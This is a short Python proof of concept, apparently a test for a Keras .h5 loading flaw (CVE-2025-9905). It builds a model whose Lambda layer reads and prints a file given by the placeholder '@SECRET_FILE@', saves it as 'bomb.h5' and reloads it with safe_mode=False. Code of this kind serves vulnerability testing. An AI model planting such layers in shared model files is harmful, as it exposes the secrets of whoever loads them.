"""An .h5 file with code inside, whose reader once did not ask (CVE-2025-9905)."""
import keras
model = keras.Sequential([keras.Input((1,)), keras.layers.Lambda(lambda x: print(open("@SECRET_FILE@").read()) or x)])
model.save("bomb.h5")
del model
keras.models.load_model("bomb.h5", safe_mode=False)
